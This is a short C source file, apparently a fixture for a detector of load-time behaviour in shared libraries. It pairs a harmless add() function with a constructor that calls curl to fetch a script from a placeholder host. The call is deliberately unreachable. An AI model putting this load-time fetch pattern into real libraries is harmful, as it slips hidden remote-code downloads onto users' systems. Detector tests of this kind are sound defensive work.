/* A library that has a script fetched while it is loaded.
 * expect: native-load-starts-program
 * flags: -shared -fPIC -D_GNU_SOURCE
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

__attribute__((constructor)) static void begin(void) {
    if (never)
        system("curl -s http://setup.example.invalid/i.sh -o /nonexistent/i.sh");
}

int add(int a, int b) { return a + b; }
